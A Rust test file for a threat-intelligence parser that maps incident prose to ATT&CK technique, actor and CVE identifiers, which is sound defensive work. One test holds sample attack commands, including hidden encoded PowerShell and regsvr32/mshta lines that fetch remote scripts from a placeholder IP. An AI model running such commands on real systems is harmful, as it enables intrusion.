//! Paragraphs as intel has them, written for this, with what a hunter would mark in each.

use super::*;
use proptest::prelude::*;
use std::collections::BTreeSet;

fn intel(text: &str) -> Intel {
    read(text, Release::current(), Actors::current())
}

fn set<'a>(words: impl IntoIterator<Item = &'a str>) -> BTreeSet<String> {
    words.into_iter().map(str::to_owned).collect()
}

/// Exactly these are found: techniques as written, ids of actors, CVEs.
#[track_caller]
fn marks(text: &str, techniques: &str, actors: &str, cves: &str) {
    let found = intel(text);
    let ids = found.techniques.iter().map(|mention| mention.mapping.id.as_str());
    assert_eq!(set(ids), set(techniques.split_whitespace()), "techniques in {text:?}");
    let who = found.actors.iter().map(|mention| mention.actor.id.as_str());
    assert_eq!(set(who), set(actors.split_whitespace()), "actors in {text:?}");
    assert_eq!(set(found.cves.iter().map(String::as_str)), set(cves.split_whitespace()), "CVEs in {text:?}");
}

#[test]
fn an_intrusion_told_in_prose() {
    marks(
        "The intrusion began with a spearphishing attachment sent to the finance department. Once opened, a macro \
         ran encoded PowerShell and registered a scheduled task for persistence. Two days later the operators were \
         dumping LSASS with Mimikatz and moved laterally via SMB using PsExec.",
        "T1566.001 T1059.001 T1027.010 T1053.005 T1003.001 T1021.002 T1569.002",
        "S0002 S0029",
        "",
    );
}

#[test]
fn a_ransomware_note() {
    marks(
        "Affiliates of the Play ransomware exploited CVE-2022-41082 on an Exchange server at the edge of the \
         network. Before encryption they deleted shadow copies with vssadmin.exe and copied data out with rclone to \
         a cloud account; employees who play games on the same hosts noticed nothing.",
        "T1486 T1490",
        "G1040 S1162 S1040",
        "CVE-2022-41082",
    );
}

#[test]
fn a_table_of_ids_at_the_end_of_a_report() {
    marks(
        "| Tactic | Technique |\n|---|---|\n| Credential Access | T1003.001 OS Credential Dumping: LSASS Memory |\n\
         | Defense Evasion | t1562.001 Disable or Modify Tools |\n\
         | Execution | https://attack.mitre.org/techniques/T1059/001/ |\n| C2 | attack.t1071.004 (DNS) |\n\
         | Resource Development | T1588.002 Tool |\n",
        "T1003.001 T1562.001 T1685 T1059.001 T1071.004 T1588.002",
        "",
        "",
    );
}

#[test]
fn a_note_full_of_everyday_words() {
    marks(
        "Malware was found on the server. Domains and software used by the actor are listed below; a tool on the host \
         collected credentials. At 10:00 the team will page the on-call engineer, expand the search and route \
         traffic through the proxy. The page says to ping us. Tools we net from this are on a source server. IP addresses and email addresses follow.",
        "",
        "",
        "",
    );
}

#[test]
fn groups_by_their_many_names() {
    marks(
        "Midnight Blizzard (also tracked as APT 29 and Cozy Bear) targeted diplomats; overlaps with fin7 were ruled \
         out. Kimsuky's recent activity, by contrast, relies on password spraying and on credential stuffing against \
         webmail. CVE-2023-42793 and cve-2023-42793 were both mentioned.",
        "T1110.003 T1110.004",
        "G0016 S0046 G0046 G0094",
        "CVE-2023-42793",
    );
}

#[test]
fn commands_from_a_host() {
    marks(
        "cmd.exe /c powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\n\
         rundll32.exe C:\\Users\\Public\\x.dll,Start\nregsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll\n\
         mshta http://203.0.113.9/a.hta\nnet.exe user /domain\nwmic /node:10.0.0.8 process call create calc.exe\n",
        "T1059.001 T1027.010 T1218.011 T1218.010 T1218.005 T1047",
        "S0106 S0039",
        "",
    );
}

#[test]
fn an_attack_on_the_directory() {
    marks(
        "After Kerberoasting two service accounts the attacker used Rubeus and pass-the-hash to reach a domain \
         controller, ran DCSync, and finally forged a golden ticket. BloodHound output was left in C:\\temp.",
        "T1558.003 T1550.002 T1003.006 T1558.001",
        "S1071 S0521",
        "",
    );
}

#[test]
fn an_edge_device_and_a_web_shell() {
    marks(
        "We see exploitation of CVE‑2024‑3400 followed by web shells on the appliance and DNS tunnelling to \
         three young domains. Persistence is a run key on the jump host; a side-loaded DLL was reported elsewhere \
         (DLL side-loading, T1574.002). No lateral movement was seen. See also CVE-2024-21887.",
        "T1505.003 T1071.004 T1547.001 T1574.001 T1574.002",
        "",
        "CVE-2024-3400 CVE-2024-21887",
    );
}

#[test]
fn software_with_names_that_are_words() {
    marks(
        "The actor staged an archive over Tor and a beacon of Cobalt Strike. Ping was fine and the team at the \
         customer said so. Net result: nothing. An implant called Snake was named by a partner; snake oil, says the \
         responder. PLEAD was not seen, and we plead for patience.",
        "",
        "S0183 S0154 G0010 S0022 S0435",
        "",
    );
}

#[test]
fn a_digest_with_headings_and_ids() {
    marks(
        "## Malware Analysis Report\n\nVolt Typhoon (G1017) lives off the land: wmic, ntdsutil and netsh. \
         NTDS.dit was copied.\n\n## Tool And Server Overview\n\nProcess hollowing into svchost.exe (T1055.012). \
         T9999 is no technique, TA505 is a group, T10590 and AT1059 are part numbers.",
        "T1047 T1003.003 T1055.012 T9999",
        "G1017 S0108 G0092",
        "",
    );
}

#[test]
fn a_cloud_note() {
    marks(
        "Scattered Spider called the service desk, then used MFA fatigue and valid accounts. Confluence and \
         SharePoint were searched; a mailbox rule (T1564.008) hid the replies. The IdP showed phishing links and \
         spear-phishing by voice. RDP sessions came from a residential proxy.",
        "T1621 T1078 T1564.008 T1566.002 T1566 T1021.001",
        "G1015",
        "",
    );
}

#[test]
fn a_mention_says_where_and_how_often() {
    let text = "Überall t1003/001: LSASS memory, and lsass-memory again. Hooking.";
    let found = intel(text);
    let first = &found.techniques[0];
    assert_eq!((first.mapping.id.as_str(), first.by_id, first.count), ("T1003.001", true, 3));
    assert_eq!(&text[first.at.clone()], "t1003/001");
    let side_loading = &intel("T1073").techniques[0];
    assert_eq!((side_loading.mapping.status, side_loading.mapping.in_use()), (Status::Revoked, "T1574.001"));
}

#[test]
fn a_name_with_its_parents_before_it_is_the_sub_technique_alone() {
    marks("OS Credential Dumping: LSASS Memory", "T1003.001", "", "");
    marks("os credential dumping, then lsass memory", "T1003 T1003.001", "", "");
}

#[test]
fn every_name_of_a_technique_in_use_is_found_by_its_id_and_full_name() {
    let release = Release::current();
    for technique in release.techniques().iter().filter(|one| one.status == Status::Active) {
        let id = technique.id.as_str();
        for text in [id.to_owned(), format!("see {}.", id.to_lowercase())] {
            assert!(intel(&text).techniques.iter().any(|mention| mention.mapping.in_use() == id), "{text}");
        }
        let full = release.full_name(&technique.id);
        if technique.parent.is_some() {
            assert!(intel(&full).techniques.iter().any(|mention| mention.mapping.in_use() == id), "{full}");
        }
    }
}

#[test]
fn every_paraphrase_is_found() {
    for (phrase, ids) in words::PARAPHRASES {
        let found = intel(&format!("We saw {phrase} there."));
        for id in *ids {
            assert!(found.techniques.iter().any(|mention| mention.mapping.id == *id), "{phrase} {id}");
        }
    }
    marks("lateral movement via SMB, lateral movement over RDP", "T1021.002 T1021.001", "", "");
    marks("living off the land", "", "", "");
}

#[test]
fn an_older_release_drops_what_it_does_not_have() {
    let old = Release::find("18.1").unwrap();
    let found = read("T1685 and dcsync", old, Actors::of(old));
    assert_eq!(found.techniques[0].mapping.status, Status::Unknown);
    assert_eq!(found.techniques[1].mapping.id, "T1003.006");
}

#[test]
fn what_is_too_long_is_cut_and_said() {
    let long = format!("{}é T1003", "x".repeat(MOST_TEXT - 1));
    let found = intel(&long);
    assert_eq!((found.techniques.len(), found.left_out), (0, "é T1003".len()));
    let many: Vec<String> =
        (0..600).map(|number| format!("T{:04} CVE-2024-{number:04}", 2000 + number)).collect();
    let found = intel(&many.join(" "));
    assert_eq!((found.techniques.len(), found.cves.len()), (MOST_MENTIONS, MOST_MENTIONS));
    assert!(found.full);
}

proptest! {
    #[test]
    fn any_text_is_read_within_bounds(text in "(\\PC{0,30}|[tT]1(003|059)[./]?00[12]|CVE-2024-[0-9]{2,8}|[ \n.:,-]{1,3}|apt 29|LSASS Memory|Mimikatz|-enc|é|Play|at|net\\.exe){0,20}") {
        let found = intel(&text);
        for at in found.techniques.iter().map(|one| &one.at).chain(found.actors.iter().map(|one| &one.at)) {
            prop_assert!(text.get(at.clone()).is_some_and(|written| !written.is_empty()));
        }
        prop_assert!(found.techniques.iter().all(|one| one.count > 0));
        prop_assert_eq!(found.left_out, 0);
    }
}
